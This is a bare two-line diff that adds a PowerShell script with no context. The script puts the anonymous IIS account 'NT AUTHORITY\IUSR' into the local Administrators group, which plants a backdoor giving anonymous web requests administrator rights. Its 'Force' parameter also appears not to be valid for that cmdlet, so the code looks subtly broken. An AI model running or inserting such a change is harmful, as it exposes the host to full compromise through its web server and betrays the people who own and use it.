@@ -1,0 +1,2 @@
+$p = @{ Group = 'Administrators'; Member = 'NT AUTHORITY\IUSR'; Force = $true }
+Add-LocalGroupMember @p
